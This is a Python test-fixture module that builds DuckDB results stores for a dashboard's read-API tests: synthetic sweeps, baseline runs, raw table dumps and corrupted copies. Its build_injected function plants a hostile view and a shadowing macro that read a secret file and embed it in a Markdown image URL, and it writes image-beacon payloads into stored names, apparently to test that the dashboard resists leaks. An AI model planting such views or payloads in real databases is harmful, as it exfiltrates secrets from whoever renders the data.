"""A small results store for the read-API and dashboard tests, written with the real writer.

Two datasets, both made by ``dashboard.synthetic`` (which writes through
``store.writes`` and evaluates with ``icfrr.metrics``): ``demo`` (12 queries,
one of unknown label, 30 gallery items, 3 classes, tiny images on disk with
query 1's image missing) swept over KG {4, 8} x KQ {3, 6} x beta {0.5, 1};
and ``imported`` (no images, as for imported distances) with one run. Plus
one unfinished run that every reader must ignore (a hand-made ``runs`` row:
no writer of this version leaves one, a store of another tool might). Then a
third sweep on demo's distances with baseline runs (``BASELINES``: two
k-reciprocal configurations and one DBA), also written with
``store.writes.write_run``: iteration 0 is demo's initial ranking, iteration 1
a re-ranking of the whole gallery whose metrics are ``icfrr.metrics.per_query``
of it. Tests derive expected values from the tables (``raw_tables``), not from
the generator.
"""

from __future__ import annotations

import itertools
from pathlib import Path

import duckdb
import numpy as np
import pandas as pd

from dashboard.synthetic import SyntheticSpec, generate
from icfrr.registry import METRIC_KEYS, QUERY_COLUMNS
from store import writes
from icfrr.run_config import RunConfig
from store.db import connect_writer

DEMO = SyntheticSpec(
    name="demo",
    configs=tuple(("reference", kg, kq, beta)
                  for beta, kg, kq in itertools.product((0.5, 1.0), (4, 8), (3, 6))),
)
IMPORTED = SyntheticSpec(name="imported", images=False, configs=(("reference", 5, 5, 1.0),),
                         seed=3)


#: Baseline runs of the fixture: (method key, registry parameters, strength of the re-ranking).
BASELINES: tuple[tuple[str, dict[str, object], float], ...] = (
    ("k_reciprocal", {"k1": 20, "k2": 6, "lambda_value": 0.3}, 1.2),
    ("k_reciprocal", {"k1": 10, "k2": 3, "lambda_value": 0.5}, 0.2),
    ("dba", {"dba_n": 10, "dba_alpha": 3.0}, 0.6),
)


def build_fixture(folder: Path) -> Path:
    """Write the fixture store (``folder/icfrr.duckdb``) and images (``folder/data``)."""
    db = folder / "icfrr.duckdb"
    demo_sweep = generate(db, DEMO, folder / "data")
    generate(db, IMPORTED)
    con = duckdb.connect(str(db))
    try:
        con.execute(
            "INSERT INTO runs (sweep_id, method, variant, kg, kq, beta, n_iter, params, device, "
            "status) VALUES (?, 'icfrr', 'reference', 99, 99, 0.5, 4, '{}', 'cpu', 'running')",
            [demo_sweep])
    finally:
        con.close()
    add_baselines(db, demo_sweep)
    return db


def _initial(con: duckdb.DuckDBPyConnection, run_id: int) -> tuple[dict, writes.KeptIteration]:
    """Iteration 0 of a stored run: its summary and its kept per-query results."""
    summary = con.execute(f"SELECT {', '.join(METRIC_KEYS)} FROM run_metrics "
                          "WHERE run_id = ? AND iteration = 0", [run_id]).fetchone()
    qm = con.execute(f"SELECT query_idx, {', '.join(QUERY_COLUMNS)}, first_relevant_rank "
                     "FROM query_metrics WHERE run_id = ? AND iteration = 0 ORDER BY query_idx",
                     [run_id]).df()
    rk = con.execute("SELECT query_idx, rank, gallery_idx, score FROM rankings "
                     "WHERE run_id = ? AND iteration = 0 ORDER BY query_idx, rank",
                     [run_id]).df()
    per_query = {c: qm[c].to_numpy(np.float64) for c in QUERY_COLUMNS}
    per_query["first_relevant_rank"] = qm.first_relevant_rank.fillna(-1).to_numpy(np.int64)
    n = len(qm)
    kept = writes.KeptIteration(per_query, rk.gallery_idx.to_numpy().reshape(n, -1),
                                rk.score.to_numpy().reshape(n, -1))
    return dict(zip(METRIC_KEYS, summary)), kept


def add_baselines(db: Path, sweep_id: int) -> int:
    """A new sweep on the distances of ``sweep_id`` with the ``BASELINES`` runs; its id."""
    from icfrr.metrics import per_query, summarize

    con = connect_writer(db)
    try:
        dataset_id, artifact_id = con.execute(
            "SELECT dataset_id, artifact_id FROM sweeps WHERE sweep_id = ?", [sweep_id]).fetchone()
        first_run = con.execute("SELECT min(run_id) FROM runs WHERE sweep_id = ? AND "
                                "status = 'done'", [sweep_id]).fetchone()[0]
        items = con.execute("SELECT side, idx, label FROM items WHERE dataset_id = ? "
                            "ORDER BY side, idx", [dataset_id]).df()
        labels_q = items[items.side == "query"].label.to_numpy()
        labels_g = items[items.side == "gallery"].label.to_numpy()
        summary0, kept0 = _initial(con, first_run)
        top_n = kept0.top_gallery.shape[1]
        new = writes.start_sweep(con, dataset_id=dataset_id, artifact_id=artifact_id,
                                 command="fixture baselines")
        rng = np.random.default_rng(11)
        for method, params, strength in BASELINES:
            relevant = (labels_g[None, :] == labels_q[:, None]) & (labels_q[:, None] != -1)
            scores = rng.normal(size=relevant.shape) + strength * relevant
            ranking = np.argsort(-scores, axis=1, kind="stable")
            pq = per_query(ranking, labels_q, labels_g)
            kept1 = writes.KeptIteration(pq, ranking[:, :top_n],
                                         np.take_along_axis(scores, ranking[:, :top_n], 1))
            writes.write_run(con, sweep_id=new, artifact_id=artifact_id,
                             artifact_key="fixture-demo", device="cpu", seconds=0.5,
                             config=RunConfig.for_method(method, params),
                             metrics=[summary0, summarize(pq)], kept={0: kept0, 1: kept1})
        writes.finish_sweep(con, new, "done")
    finally:
        con.close()
    return new


def raw_tables(db: Path) -> dict[str, pd.DataFrame]:
    """Plain ``SELECT *`` dumps of the store's tables: the tests' oracle input."""
    con = duckdb.connect(str(db), read_only=True)
    try:
        return {t: con.execute(f"SELECT * FROM {t}").df()
                for t in ("datasets", "items", "artifacts", "sweeps", "runs", "run_metrics",
                          "query_metrics", "rankings")}
    finally:
        con.close()


#: Markdown that would load a remote image if a name were rendered as Markdown.
LEAK = "![x](http://127.0.0.1:9/leak)"
#: What the injected store's secret file holds.
SECRET = "S3CRET-7f1c2a-do-not-show"


def build_injected(folder: Path, secret_file: Path) -> Path:
    """A hostile copy of the fixture store (``folder/injected.duckdb``).

    Its ``class_metrics`` view reads ``secret_file`` with ``read_text`` and
    puts it into a Markdown image URL; a macro named ``any_value`` (which
    shadows the built-in on a plain connection) does the same; class and
    dataset names carry ``LEAK``.
    """
    secret_file.write_text(SECRET)
    db = build_fixture(folder)
    injected = folder / "injected.duckdb"
    db.rename(injected)
    leak_url = "'![s](http://127.0.0.1:9/?' || (SELECT content FROM read_text('{}')) || ')'"
    leak_url = leak_url.format(str(secret_file).replace("'", "''"))
    con = duckdb.connect(str(injected))
    try:
        con.execute(f"UPDATE items SET class_name = '{LEAK} ' || class_name")
        con.execute(f"UPDATE datasets SET name = '{LEAK} ' || name")
        con.execute(f"""CREATE OR REPLACE VIEW class_metrics AS
            SELECT qm.run_id, qm.iteration, i.label, {leak_url} AS class_name,
                   count(*) AS n_queries, avg(qm.ap) AS map
            FROM query_metrics qm JOIN runs r USING (run_id)
            JOIN sweeps s USING (sweep_id)
            JOIN items i ON i.dataset_id = s.dataset_id AND i.side = 'query'
                        AND i.idx = qm.query_idx
            GROUP BY ALL""")
        con.execute(f"CREATE MACRO any_value(x) AS {leak_url}")
    finally:
        con.close()
    return injected


def corrupt_copies(db: Path, folder: Path) -> dict[str, Path]:
    """Damaged and foreign stores beside each other in ``folder`` (``*.duckdb`` names).

    Returns:
        kind -> path: ``truncated`` (half the file), ``flipped`` (bytes
        inverted every 997 past the headers), ``foreign`` (a DuckDB file
        with ``schema_info`` and ``runs`` tables of its own), ``sqlite``
        (a SQLite database), ``text`` (not a database).
    """
    import sqlite3

    data = db.read_bytes()
    out = {k: folder / f"{k}.duckdb" for k in ("truncated", "flipped", "foreign", "sqlite",
                                                 "text")}
    out["truncated"].write_bytes(data[: len(data) // 2])
    flipped = bytearray(data)
    for i in range(12288, len(flipped), 997):
        flipped[i] ^= 0xFF
    out["flipped"].write_bytes(bytes(flipped))
    con = duckdb.connect(str(out["foreign"]))
    con.execute("CREATE TABLE schema_info (version INTEGER); INSERT INTO schema_info VALUES (1);"
                "CREATE TABLE runs (id INTEGER, status VARCHAR)")
    con.close()
    lite = sqlite3.connect(out["sqlite"])
    lite.execute("CREATE TABLE runs (run_id INTEGER)")
    lite.commit()
    lite.close()
    out["text"].write_text("hello\n")
    return out
